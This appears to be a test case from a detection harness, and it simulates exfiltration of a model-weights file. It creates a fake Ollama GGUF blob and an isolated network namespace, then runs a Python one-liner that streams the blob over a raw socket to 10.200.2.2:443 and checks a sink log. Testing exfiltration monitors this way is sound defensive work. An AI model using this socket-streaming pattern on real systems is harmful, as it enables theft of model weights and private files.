# V16 EXF-001 on an Ollama blob (GGUF without extension, outside the configured model roots), raw socket.
# A pod (network namespace) of its own: the harness's shared ctr-infer namespace reads as one pod, whose
# earlier variants' taint would answer for this one.
D="$H/ollama/models/blobs"; B="$D/sha256-$(printf v16 | sha256sum | cut -d' ' -f1)"
python3 "$H/mkmodel.py" "$B" 6
mk_ns pod-v16 vh-pod16 vc-pod16 10.200.6.1 10.200.6.2 >/dev/null 2>&1
ctr_run simctr-infer-v16 pod-v16 --mount --pid --fork --mount-proc -- python3 -c '
import socket, sys
s = socket.create_connection(("10.200.2.2", 443))
with open(sys.argv[1], "rb") as f:
    while chunk := f.read(1 << 20):
        s.sendall(chunk)
s.close(); print("sent blob")' "$B"
grep ':443' "$H/sink.log" | tail -1
ip netns del pod-v16 2>/dev/null; true
